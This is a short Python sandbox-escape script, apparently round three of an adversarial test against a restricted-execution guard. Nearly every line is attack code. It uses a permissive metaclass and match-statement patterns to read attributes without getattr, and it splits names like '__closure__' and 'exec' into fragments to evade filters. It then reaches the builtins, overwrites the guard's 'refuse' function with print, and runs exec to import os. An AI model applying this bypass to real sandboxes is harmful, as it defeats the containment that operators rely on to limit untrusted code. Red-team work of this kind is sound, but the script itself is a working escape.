# adversary round 3: 028_min_tamper_exec
M=type("M",(type,),{"__instance"+"check__":lambda c,o:1})
def r(o,n):
 R=M("R",(),{"__match"+"_args__":(n,)})
 match o:
  case R(v):return v
B=r(r(len,"__se"+"lf__"),"__di"+"ct__")
K="__clo"+"sure__";V="cell_"+"contents"
for c in r(r(r(B["get"+"attr"],K)[1],V),K):
 if r(r(c,V),"__na"+"me__")=="refuse":r(r(type(c),"__di"+"ct__")[V],"__se"+"t__")(c,print)
B["ex"+"ec"]("import os;print(os.getpid(),'PWN'+'ED')",{})
